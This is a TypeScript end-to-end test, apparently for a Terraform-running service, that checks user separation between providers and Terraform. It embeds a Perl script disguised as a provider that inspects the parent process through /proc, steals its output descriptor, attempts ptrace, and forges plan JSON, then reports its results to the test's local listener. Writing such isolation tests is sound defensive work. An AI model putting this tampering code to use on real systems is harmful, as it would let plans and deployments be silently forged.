import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { hasGo, withScriptAsProvider } from '#test/e2e/support/drift-provider.ts';
import { newSharedFolder } from '#test/e2e/support/shared-folder.ts';
import { client, newWorkspace, planJson, untilFinal } from '#test/e2e/support/world.ts';
import { notSeparated, separatesUsers } from './plan-code.ts';

/**
 * A provider that reaches for the Terraform that started it, which is the same user's: for the file that its JSON goes to,
 * and for its memory. It tells what it could do over the network, and then does its work.
 */

const forged = JSON.stringify({ format_version: '1.2', applyable: true, resource_changes: [], forged: true });

/** Numbers of system calls: x86_64 and arm64 differ in the older one. */
const attack = (port: number) => `#!/usr/bin/perl
use Socket;
my $terraform = getppid();
my $ptrace = (grep { /x86_64/ } \`uname -m\`) ? 101 : 117;
open(my $file, '<', "/proc/$terraform/cmdline");
my $command = join(' ', split(/\\0/, <$file>));
my @deeds;
opendir(my $files, "/proc/$terraform/fd") and push @deeds, 'listed its files';
my $output;
open($output, '+<', "/proc/$terraform/fd/1") and push @deeds, 'opened its output';
open(my $memory, '+<', "/proc/$terraform/mem") and push @deeds, 'opened its memory';
my $process = syscall(434, $terraform, 0);
my $taken = $process < 0 ? -1 : syscall(438, $process, 1, 0);
if ($taken >= 0) {
  push @deeds, 'took its output';
  open($output, '+<&=', $taken);
}
if ($output && $command =~ /show/) {
  syswrite($output, ${quotedForPerl(forged)});
  truncate($output, ${forged.length});
}
if (syscall($ptrace, 16, $terraform, 0, 0) == 0) {
  push @deeds, 'traced it';
  waitpid($terraform, 0);
  syscall($ptrace, 17, $terraform, 0, 0);
}
socket(my $report, PF_INET, SOCK_STREAM, 0);
connect($report, sockaddr_in(${port}, inet_aton('127.0.0.1')));
syswrite($report, "$command: @deeds\\n");
close($report);
exec './real-provider', @ARGV;
`;

const quotedForPerl = (text: string): string => `'${text.replaceAll("'", "\\'")}'`;

const reports: string[] = [];
const server = createServer((socket) => {
  let text = '';
  socket.on('data', (bytes) => {
    text += bytes;
  });
  socket.on('error', () => {});
  socket.on('close', () => reports.push(text.trim()));
});
beforeAll(() => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve)));
afterAll(() => server.close());

it.runIf(separatesUsers && hasGo)(
  `a provider cannot reach the Terraform that reads the plan, schemas and state, plans or applies${notSeparated}`,
  async () => {
    const folder = newSharedFolder('reader-');
    const main = `resource "drift_file" "a" {\n  path    = "${folder}/a"\n  content = "judged"\n}\n`;
    const archive = await withScriptAsProvider(main, attack((server.address() as AddressInfo).port));
    const workspace = await newWorkspace({ 'auto-apply': true });
    const version = await client.upload(workspace.id, archive);
    const run = await untilFinal(await client.createRun(workspace.id, {}, version.id));
    const from = (command: string) => reports.filter((report) => report.split(': ')[0]?.includes(command));
    // Schemas are read after the run.
    for (const command of ['show -json', 'schema -json', 'plan', 'apply'])
      await expect.poll(() => from(command).length, { message: command, timeout: 60_000 }).toBeGreaterThan(0);
    expect(reports.filter((report) => !report.endsWith(':'))).toEqual([]);
    expect(run.attributes.status).toBe('applied');
    const json = await planJson(run);
    expect(json.forged).toBeUndefined();
    expect(json.resource_changes).toHaveLength(1);
  },
);
